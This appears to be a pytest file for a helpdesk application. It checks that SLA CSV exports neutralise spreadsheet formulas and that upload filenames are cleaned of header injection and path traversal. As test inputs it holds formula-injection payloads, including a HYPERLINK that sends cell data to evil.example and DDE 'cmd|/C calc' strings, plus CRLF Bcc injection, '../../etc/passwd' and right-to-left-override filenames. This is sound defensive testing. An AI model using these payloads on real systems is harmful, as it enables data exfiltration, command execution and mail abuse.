"""Exports and uploads (issue #10, rows 6 and 8; Build item 7).

Row 6: a subject like ``=HYPERLINK("http://evil.example/?"&A1,"click")`` came out
of ``/reports/sla.csv?kind=tickets`` as a live formula. Every text cell that a
spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR first) now starts with
``'``, in both CSV exports; numbers stay numbers.

Row 8: an agent's upload named ``filename*=UTF-8''a%0D%0ABcc%3A…`` was a 500.
Uploaded names go through the mail attachment sanitiser: that one is attached
under a clean name (no header is made of it), and a name of which nothing is
usable is a 400 that says so, with nothing queued. Tickets arrive by real SMTP;
the forms are posted as raw multipart bodies, as an attacker's client would,
and through chromium as an agent would.
"""

from __future__ import annotations

import csv
import email
import io
from datetime import timedelta
from email import policy
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from helpdesk import export
from helpdesk.clock import utcnow
from helpdesk.models import Message, OutboxMail, Ticket, User
from helpdesk.subscribers import writing_sessions
from helpdesk.tickets import lifecycle
from helpdesk.web import uploads
from tests.conftest import outbox_bytes
from tests.test_serve_round_trip import form_fields
from tests.test_web_smoke import sign_in

pytest_plugins = ["tests.browser_support"]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]
AGENT = "=1+2@example.com"  # an address is text a spreadsheet would run too
MANAGER = "manager@example.com"


CORPUS_CASE = Path(__file__).parent / "corpus" / "intake" / "spreadsheet_formula_subject.eml"


def customer_mail(number: int, subject: str) -> bytes:
    return (
        f"From: Carol <carol{number}@customer.example>\r\nTo: help-desk@example.com\r\n"
        f"Subject: {subject}\r\nMessage-ID: <csv-{number}@customer.example>\r\n\r\nHello\r\n"
    ).encode()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_defused(start: str) -> None:
    assert export.defuse(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["plain", "", " =not first", "'quoted", 42, -3, 2.5, None])
def test_other_cells_are_left_alone(value: Any) -> None:
    assert export.defuse(value) == value


def range_query() -> str:
    today = utcnow().date()
    start, end = today - timedelta(days=2), today + timedelta(days=2)
    return f"period=range&start={start}&end={end}"


@pytest.fixture
def formula_tickets(gateway, make_user, engine, relay_settings) -> None:  # type: ignore[no-untyped-def]
    gateway.send(CORPUS_CASE.read_bytes(), mail_from="eve@attacker.example")  # FORMULAS[0]
    for number, subject in enumerate(FORMULAS[1:], start=1):
        gateway.send(customer_mail(number, subject), mail_from=f"carol{number}@customer.example")
    make_user(AGENT, "agent", ["help-desk"])
    make_user(MANAGER, "manager")
    with writing_sessions(engine, relay_settings)() as write, write.begin():
        agent = write.scalars(select(User).where(User.email == AGENT)).one()
        for ticket in write.scalars(select(Ticket)):
            lifecycle.assign(write, ticket, agent, actor=agent, now=utcnow())


def read_csv(client, query: str) -> list[list[str]]:  # type: ignore[no-untyped-def]
    response = client.get(f"/reports/sla.csv?{query}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_ticket_csv_holds_no_live_formula(formula_tickets, client) -> None:
    assert sign_in(client, MANAGER).status_code == 302
    header, *rows = read_csv(client, range_query() + "&kind=tickets")
    subjects = [row[header.index("subject")] for row in rows]
    assert sorted(subjects) == sorted("'" + subject for subject in FORMULAS)
    assert {row[header.index("assignee")] for row in rows} == {"'" + AGENT}
    for row in rows:
        assert not any(cell.startswith(export.FORMULA_STARTS) for cell in row), row


def test_figures_csv_holds_no_live_formula(formula_tickets, client) -> None:
    assert sign_in(client, MANAGER).status_code == 302
    table = read_csv(client, range_query())
    assert ["agent", "'" + AGENT] in [row[:2] for row in table]
    for row in table:
        assert not any(cell.startswith(export.FORMULA_STARTS) for cell in row), row


def test_csv_from_the_report_page_in_the_browser(formula_tickets, open_agent) -> None:
    """The manager follows the page's CSV link with the browser's own session."""
    manager = open_agent("manager")
    manager.sign_in(MANAGER)
    manager.open("/reports/sla?" + range_query())
    link = manager.page.locator("a[href*='sla.csv'][href*='kind=tickets']").first
    response = manager.page.request.get(manager.url(link.get_attribute("href")))
    assert response.status == 200
    rows = list(csv.reader(io.StringIO(response.text())))
    assert "'" + FORMULAS[0] in [cell for row in rows for cell in row]
    assert not any(cell.startswith(export.FORMULA_STARTS) for row in rows for cell in row)
    assert not manager.guard.problems(), manager.guard


# --- uploads -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("report.pdf", "report.pdf"),
        ("a\r\nBcc: victim@evil.example", "a_Bcc_ victim@evil.example"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\me\\notes.txt", "notes.txt"),
        ("invoice\u202etxt.exe", "invoicetxt.exe"),
        ("attachment-0.bin", "attachment-0.bin"),  # looks made up, but was chosen
    ],
)
def test_upload_names_go_through_the_mail_sanitiser(name: str, expected: str) -> None:
    assert uploads.filename(name, "application/pdf", 0) == expected


@pytest.mark.parametrize("name", ["..", "/", " . ", "\u202e", "dir/", "\\"])
def test_an_upload_name_with_nothing_usable_is_refused(name: str) -> None:
    with pytest.raises(uploads.UploadRefused, match="Rename the file"):
        uploads.filename(name, "text/plain", 0)


@pytest.mark.parametrize(
    ("declared", "used"),
    [
        ("text/plain", "text/plain"),
        ("Image/PNG", "image/png"),
        ("text/plain\r\nBcc: x@evil.example", "application/octet-stream"),
        ("nonsense", "application/octet-stream"),
        ("", "application/octet-stream"),
    ],
)
def test_upload_content_types(declared: str, used: str) -> None:
    assert uploads.content_type(declared) == used


BOUNDARY = "----helpdesk-test-boundary"


def multipart(fields: dict[str, str], disposition: str, content_type: str = "text/plain") -> bytes:
    """A multipart/form-data body written by hand: the file part's header is raw."""
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in fields.items()
    ]
    parts.append(
        f"--{BOUNDARY}\r\nContent-Disposition: form-data; {disposition}\r\n"
        f"Content-Type: {content_type}\r\n\r\nthe file's bytes\r\n"
    )
    return ("".join(parts) + f"--{BOUNDARY}--\r\n").encode()


@pytest.fixture
def agent_client(gateway, client, make_user):  # type: ignore[no-untyped-def]
    gateway.send(customer_mail(1, "Printer on fire"), mail_from="carol1@customer.example")
    make_user("agent@example.com", "agent", ["help-desk"])
    assert sign_in(client, "agent@example.com").status_code == 302
    return client


def post_reply(client, disposition: str):  # type: ignore[no-untyped-def]
    page = client.get("/tickets/1").get_data(as_text=True)
    fields = {**form_fields(page, "/tickets/1/reply"), "body": "Here is the file."}
    return client.post(
        "/tickets/1/reply",
        data=multipart(fields, disposition),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )


def replies_queued(session) -> list[OutboxMail]:  # type: ignore[no-untyped-def]
    session.expire_all()
    return list(session.scalars(select(OutboxMail).where(OutboxMail.purpose == "reply")))


def test_upload_named_with_crlf_is_attached_under_a_clean_name(agent_client, session) -> None:
    disposition = (
        'name="attachments"; filename="x.txt"; filename*=UTF-8\'\'a%0D%0ABcc%3A%20victim%40evil'
        ".example%0D%0AX-Evil%3A%20yes"
    )
    response = post_reply(agent_client, disposition)
    assert response.status_code == 302, response.data[:400]
    [row] = replies_queued(session)
    mail = email.message_from_bytes(outbox_bytes(row), policy=policy.default)
    assert mail["Bcc"] is None and mail["X-Evil"] is None
    [part] = list(mail.iter_attachments())
    assert part.get_filename() == "a_Bcc_ victim@evil.example_X-Evil_ yes"
    assert all("\r" not in value and "\n" not in value for _, value in part.items())
    stored = session.scalars(select(Message).where(Message.kind == "outbound")).all()
    assert [a.filename for m in stored for a in m.attachments] == [part.get_filename()]


@pytest.mark.parametrize(
    "disposition",
    [
        "name=\"attachments\"; filename*=UTF-8''%E2%80%AE",  # only a right-to-left override
        'name="attachments"; filename=".."',
        "name=\"attachments\"; filename*=UTF-8''%2F..%2F",
    ],
)
def test_upload_named_with_nothing_usable_is_a_400_with_a_message(
    agent_client, session, disposition: str
) -> None:
    response = post_reply(agent_client, disposition)
    assert response.status_code == 400
    assert b"Rename the file and attach it again." in response.data
    assert replies_queued(session) == []


def test_upload_in_the_browser(gateway, make_user, open_agent, session) -> None:
    """An agent attaches files through the reply form: a good one goes out, one whose
    name has nothing usable gets the 400 page with the reason."""
    gateway.send(customer_mail(1, "Printer on fire"), mail_from="carol1@customer.example")
    make_user("agent@example.com", "agent", ["help-desk"])
    agent = open_agent("agent")
    agent.sign_in("agent@example.com")
    agent.open("/tickets/1")
    form = agent.page.locator("form[action$='/reply']")
    form.locator("textarea[name='body']").fill("Here is the file.")
    form.locator("input[type='file']").set_input_files(
        [{"name": "\u202e", "mimeType": "text/plain", "buffer": b"hello"}]
    )
    with agent.page.expect_navigation() as navigation:
        form.get_by_role("button", name="Send reply").click()
    assert navigation.value.status == 400
    assert agent.page.get_by_text("Rename the file and attach it again.").is_visible()
    assert replies_queued(session) == []
    agent.open("/tickets/1")
    form = agent.page.locator("form[action$='/reply']")
    form.locator("textarea[name='body']").fill("Here is the file.")
    form.locator("input[type='file']").set_input_files(
        [{"name": "notes\u202e.txt", "mimeType": "text/plain", "buffer": b"hello"}]
    )
    agent.click_and_load(form.get_by_role("button", name="Send reply"))
    assert agent.page.get_by_text("Reply queued for delivery.").is_visible()
    [row] = replies_queued(session)
    mail = email.message_from_bytes(outbox_bytes(row), policy=policy.default)
    assert [part.get_filename() for part in mail.iter_attachments()] == ["notes.txt"]
    assert not agent.guard.problems(), agent.guard
